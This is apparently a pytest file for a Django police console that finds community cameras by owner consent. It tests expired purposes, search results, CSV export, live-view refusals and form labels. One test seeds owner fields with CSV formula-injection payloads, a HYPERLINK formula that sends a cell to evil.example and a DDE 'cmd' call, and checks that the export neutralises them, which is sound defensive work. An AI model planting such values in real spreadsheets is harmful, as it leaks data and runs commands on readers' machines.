"""What the console pages show: an expired purpose, empty results, approximate positions, the
canvass CSV, the consent in force and live view on the camera page, the purpose form's words."""

import csv
import datetime as dt
import io
import json
import re
from typing import Any

import pytest
from django.utils import timezone, translation

from accounts.models import Role
from audit.models import AccessEvent
from cameras import services
from cameras.models import ConsentGrant, Purpose
from tenants.models import PURPOSE_LABELS
from tenants.services import policy_update
from tests.conftest import TenantClient
from tests.factories import UserFactory

CIRCLE = {"lat": "34.10", "lon": "-117.38", "radius_m": "300", "mode": "pin"}


@pytest.fixture
def officer_client(logged_in_staff: Any) -> TenantClient:
    client, _ = logged_in_staff(Role.OFFICER)
    return client


def _state_purpose(client: TenantClient, category: str = "property_crime", authority: str = "consent") -> None:
    response = client.post(
        "/console/purpose/",
        {"case_number": "RPD-77", "category": category, "text": "Burglary on Cedar", "authority": authority},
    )
    assert response.status_code == 302


@pytest.fixture
def with_purpose(officer_client: TenantClient) -> TenantClient:
    _state_purpose(officer_client)
    return officer_client


def _expire_purposes() -> None:
    # The clock is what expires a purpose; no service moves it.
    Purpose.objects.update(expires_at=timezone.now() - dt.timedelta(minutes=1))


def _expire_consent(camera: Any) -> None:
    ConsentGrant.objects.filter(pk=camera.consent.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))


# --- An expired purpose -----------------------------------------------------------------


def test_an_expired_purpose_sends_the_officer_back_to_the_purpose_page_with_a_message(
    with_purpose: TenantClient,
) -> None:
    _expire_purposes()

    response = with_purpose.get("/console/", follow=True)

    assert response.redirect_chain == [("/console/purpose/", 302)]
    assert "Your purpose for case RPD-77 expired; state it again." in response.content.decode()
    assert response.context["current"] is None


def test_a_search_with_an_expired_purpose_says_so_and_links_to_the_purpose_page(with_purpose: TenantClient) -> None:
    _expire_purposes()

    response = with_purpose.post("/console/search/", CIRCLE)

    assert response.status_code == 403
    assert "That purpose has expired; state it again." in response.content.decode()
    assert 'href="/console/purpose/"' in response.content.decode()


def test_a_camera_page_refused_for_an_expired_purpose_says_why_in_the_page(
    with_purpose: TenantClient, make_camera: Any
) -> None:
    camera = make_camera("live")
    _expire_purposes()

    response = with_purpose.get(f"/console/cameras/{camera.public_id}/")

    assert response.status_code == 403
    assert "That purpose has expired; state it again." in response.content.decode()
    assert 'class="brand"' in response.content.decode()  # the site's own page, with its navigation


def test_a_canvass_export_refused_for_an_expired_purpose_says_why(with_purpose: TenantClient) -> None:
    _expire_purposes()

    response = with_purpose.post("/console/search/export.csv", CIRCLE)

    assert response.status_code == 403
    assert "That purpose has expired; state it again." in response.content.decode()


# --- Search results -----------------------------------------------------------------------


def test_an_empty_result_says_so_and_offers_no_export_or_footage_request(with_purpose: TenantClient) -> None:
    response = with_purpose.post("/console/search/", {"lat": "34.0", "lon": "-117.1", "radius_m": "50"})

    body = response.content.decode()
    assert response.status_code == 200
    assert "No cameras in this area." in body
    assert "<table" not in body
    assert 'id="export-csv"' not in body
    assert 'id="request-footage"' not in body


def test_search_results_place_cameras_to_about_100_m_like_the_map(with_purpose: TenantClient, make_camera: Any) -> None:
    make_camera("on_request", lon=-117.38047, lat=34.10049)

    response = with_purpose.post("/console/search/", CIRCLE)

    found = re.search(r'id="result-features"[^>]*>(.*?)</script>', response.content.decode())
    assert found is not None
    features = json.loads(found.group(1))
    assert features["features"][0]["geometry"]["coordinates"] == [-117.38, 34.1]


def test_the_results_table_scrolls_inside_its_box(with_purpose: TenantClient, make_camera: Any) -> None:
    make_camera("on_request")

    response = with_purpose.post("/console/search/", CIRCLE)

    assert re.search(r'<div class="table-scroll">\s*<table class="list results"[^>]*>', response.content.decode())


# --- The canvass CSV ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_an_owner_wrote_cannot_run_as_formulas(
    in_rialto: Any, policy: Any, with_purpose: TenantClient, start: str
) -> None:
    owner = UserFactory(role=Role.BUSINESS, full_name=f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")')
    site = services.site_create(
        owner=owner,
        department=in_rialto,
        lon=-117.38,
        lat=34.10,
        kind="business",
        address=f"{start}cmd|' /C calc'!A0",
        share_contact=True,
    )
    camera = services.camera_register(owner=owner, site=site, label="Lot", bearing_deg=0, range_m=20)
    services.consent_set(owner=owner, camera=camera, policy=policy, level="on_request")

    response = with_purpose.post("/console/search/export.csv", CIRCLE)

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    contact = next(row["contact"] for row in rows if row["camera_id"] == str(camera.public_id))
    assert contact.startswith("'" + start)


def test_csv_views_are_the_words_the_page_shows(in_rialto: Any, with_purpose: TenantClient, make_camera: Any) -> None:
    camera = make_camera("on_request")
    services.camera_update(owner=camera.site.owner, camera=camera, views=["street", "sidewalk"])

    response = with_purpose.post("/console/search/export.csv", CIRCLE)

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    views = next(row["views"] for row in rows if row["camera_id"] == str(camera.public_id))
    assert views == "Street, Sidewalk"


# --- The camera page: consent in force and live view ----------------------------------------


def _detail(client: TenantClient, camera: Any) -> str:
    response = client.get(f"/console/cameras/{camera.public_id}/")
    assert response.status_code == 200
    return response.content.decode()


def _consent_shown(body: str) -> str:
    return re.search(r'<dd id="consent-in-force">(.*?)</dd>', body).group(1)  # type: ignore[union-attr]


def test_a_camera_the_officer_may_watch_offers_live_view(with_purpose: TenantClient, make_camera: Any) -> None:
    camera = make_camera("live", bridge_online=True)

    body = _detail(with_purpose, camera)

    assert 'id="open-live"' in body
    assert _consent_shown(body) == "Live"


def test_open_live_view_posts_the_camera_with_the_csrf_token_and_shows_its_tile(
    with_purpose: TenantClient, make_camera: Any
) -> None:
    camera = make_camera("live", bridge_online=True)
    body = _detail(with_purpose, camera)
    form = re.search(r'<form method="post" action="/console/live/">(.*?)</form>', body, re.S)
    assert form is not None
    assert 'id="open-live"' in form.group(1)
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form.group(1)))
    with_purpose.handler.enforce_csrf_checks = True

    response = with_purpose.post("/console/live/", fields, follow=True)

    assert response.status_code == 200
    assert f'data-camera="{camera.public_id}"' in response.content.decode()


def test_the_results_open_a_live_wall_of_the_cameras_ticked_under_live(
    with_purpose: TenantClient, make_camera: Any
) -> None:
    # given a search whose results hold two cameras the officer may watch and one they may not
    live = [make_camera("live", bridge_online=True), make_camera("live", lon=-117.3805, bridge_online=True)]
    on_request = make_camera("on_request")
    body = with_purpose.post("/console/search/", CIRCLE).content.decode()
    form = re.search(r'<form method="post" action="/console/search/export.csv"[^>]*>(.*?)</form>', body, re.S)
    assert form is not None
    ticks = re.findall(r'<input type="checkbox" name="camera" value="([^"]+)"', form.group(1))
    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form.group(1)))
    with_purpose.handler.enforce_csrf_checks = True

    # when the officer ticks both and presses the live wall button (it posts the form there)
    assert 'formaction="/console/live/" id="open-live-wall"' in form.group(1)
    response = with_purpose.post("/console/live/", {**hidden, "camera": ticks}, follow=True)

    # then one page shows both as a wall, and only cameras that may be watched could be ticked
    assert sorted(ticks) == sorted(str(c.public_id) for c in live)
    assert str(on_request.public_id) not in ticks
    page = response.content.decode()
    assert response.status_code == 200
    assert 'class="live-grid wall"' in page
    assert all(f'data-camera="{c.public_id}"' in page for c in live)


def test_a_live_wall_with_no_camera_ticked_says_so(with_purpose: TenantClient) -> None:
    response = with_purpose.post("/console/live/", {**CIRCLE})

    assert response.status_code == 400
    assert "Choose at least one camera to watch" in response.content.decode()


@pytest.mark.parametrize(
    ("level", "change", "consent", "why"),
    [
        ("on_request", None, "Footage on request", "Live view: not allowed by the owner&#x27;s consent."),
        ("registered", None, "Registered only", "Live view: not allowed by the owner&#x27;s consent."),
        ("live", "expired", "Registered only (expired)", "the owner&#x27;s consent has expired"),
        ("live", "revoked", "Registered only (revoked)", "the owner revoked consent"),
        ("live", "paused", "Registered only (paused)", "the owner paused this camera"),
        ("live_exigent", None, "Live in emergencies", "only for an exigent purpose"),
    ],
)
def test_a_camera_that_cannot_be_watched_says_why_and_offers_no_live_view(
    with_purpose: TenantClient, make_camera: Any, level: str, change: str | None, consent: str, why: str
) -> None:
    camera = make_camera(level)
    owner = camera.site.owner
    if change == "expired":
        _expire_consent(camera)
    elif change == "revoked":
        services.consent_revoke(owner=owner, camera=camera)
    elif change == "paused":
        services.camera_status_set(owner=owner, camera=camera, status="paused")
    before = AccessEvent.objects.filter(action="live_start").count()

    body = _detail(with_purpose, camera)

    assert 'id="open-live"' not in body
    assert why in re.search(r'<p class="hint" id="live-refused">(.*?)</p>', body).group(1)  # type: ignore[union-attr]
    assert _consent_shown(body) == consent
    assert AccessEvent.objects.filter(action="live_start").count() == before


def test_a_home_camera_cannot_be_watched_when_policy_forbids_it(
    in_rialto: Any, with_purpose: TenantClient, make_camera: Any
) -> None:
    policy_update(department=in_rialto, actor=None, residential_live_view_allowed=False)
    camera = make_camera("live", kind="residential")

    body = _detail(with_purpose, camera)

    assert 'id="open-live"' not in body
    assert "department policy does not allow live view of home cameras" in body


def test_an_owner_contact_refusal_is_shown_in_the_page(
    in_rialto: Any, with_purpose: TenantClient, make_camera: Any
) -> None:
    camera = make_camera("registered", share_contact=True)
    page = _detail(with_purpose, camera)
    services.site_update(owner=camera.site.owner, site=camera.site, department=in_rialto, share_contact=False)

    refused = with_purpose.post(f"/console/cameras/{camera.public_id}/contact/")

    assert '"[45]..","swap":true' in page  # htmx swaps 4xx answers into #contact
    assert refused.status_code == 403
    assert "does not share contact details" in refused.content.decode()


def test_console_pages_with_htmx_forms_swap_error_answers(with_purpose: TenantClient) -> None:
    page = with_purpose.get("/console/")

    config = re.search(r"<meta name=\"htmx-config\" content='([^']*)'>", page.content.decode())

    assert config is not None
    assert {"code": "[45]..", "swap": True, "error": True} in json.loads(config.group(1))["responseHandling"]


# --- The purpose form -----------------------------------------------------------------------


def test_the_purpose_categories_are_in_words_not_codes(officer_client: TenantClient) -> None:
    response = officer_client.get("/console/purpose/")

    choices = dict(response.context["form"].fields["category"].choices)
    assert choices["exigent_threat_to_life"] == "Imminent threat to life"
    assert choices["immigration_status"] == "Immigration status (prohibited)"


def test_the_purpose_categories_are_in_the_officers_language(officer_client: TenantClient) -> None:
    response = officer_client.get("/console/purpose/", HTTP_ACCEPT_LANGUAGE="es")

    choices = dict(response.context["form"].fields["category"].choices)
    with translation.override("es"):
        spanish = str(PURPOSE_LABELS["violent_crime"])
    assert spanish != "Violent crime"
    assert choices["violent_crime"] == spanish


def test_a_prohibited_category_is_refused_in_words_not_its_code(officer_client: TenantClient) -> None:
    response = officer_client.post(
        "/console/purpose/",
        {"case_number": "X", "category": "immigration_status", "text": "x", "authority": "consent"},
    )

    message = str(response.context["form"].errors["category"])
    assert "Immigration status" in message
    assert "immigration_status" not in message


def test_the_address_box_speaks_spanish_with_a_proper_plural(with_purpose: TenantClient) -> None:
    page = with_purpose.get("/console/", HTTP_ACCEPT_LANGUAGE="es").content.decode()

    assert 'data-count-one="{count} sugerencia: use las flechas arriba y abajo y luego Intro."' in page
    assert 'data-count-other="{count} sugerencias: use las flechas arriba y abajo y luego Intro."' in page
    assert 'data-picked-text="Búsqueda centrada en {place}."' in page
